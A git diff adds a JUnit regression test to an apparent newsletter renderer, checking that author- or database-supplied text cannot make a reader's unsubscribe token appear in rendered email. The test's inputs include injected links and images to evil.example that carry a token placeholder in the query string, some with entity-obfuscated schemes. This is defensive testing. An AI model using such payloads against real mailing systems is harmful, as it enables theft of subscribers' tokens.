@@ -19,6 +19,7 @@ import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 import org.viestka.commentary.CommentaryInput;
 import org.viestka.commentary.CommentaryInput.TranslationInput;
+import org.viestka.commentary.Translation;
 import org.viestka.issue.Issue;
 import org.viestka.mail.MessageTemplate;
 import org.viestka.publication.Publication;
@@ -271,6 +272,29 @@ class MailingRendererTest {
         newsroom.publishIssue(Samples.WEEK);
         var text = render("be-ru", "be");
         assertThat(text.html + text.plain).doesNotContain("/be/weeks/");
+    }
+
+    @Test
+    void nothing_that_anybody_wrote_gets_the_token_of_a_reader() {
+        var spelled = "&#xE000;unsubscribe-token&#xE001;";
+        newsroom.publish(Samples.english(Samples.WEEK, "A title " + spelled, "A summary " + spelled,
+                "[a](https://evil.example/?a=" + spelled + " \"" + spelled + "\") htt&#112;s://evil.example/?b=" + spelled
+                        + " ![" + spelled + "](https://evil.example/?c=" + spelled + ")\n\n```\n" + spelled + "\n```"));
+        var typed = "https://evil.example/?d=" + MessageTemplate.TOKEN;
+        QuarkusTransaction.requiringNew().run(() -> {
+            // As an older version kept it, or whoever writes into the database.
+            var translation = Translation.<Translation>find("language", "en").singleResult();
+            translation.title += typed;
+            translation.summary += typed;
+            translation.body += typed;
+        });
+        for (var text : texts("en")) {
+            assertThat(text.html.replaceAll("/unsubscribe/" + MessageTemplate.TOKEN, "")).doesNotContainPattern("\\p{Co}");
+            assertThat(text.html).contains("/unsubscribe/" + MessageTemplate.TOKEN, "https://evil.example/?d=");
+            assertThat(text.plain.replaceAll("/unsubscribe/" + MessageTemplate.TOKEN, "")).doesNotContainPattern("\\p{Co}");
+            assertThat(text.plain).containsOnlyOnce(MessageTemplate.TOKEN);
+            assertThat(text.subject).doesNotContainPattern("\\p{Co}");
+        }
     }
 
     private MailingText render(String edition, String leading) {
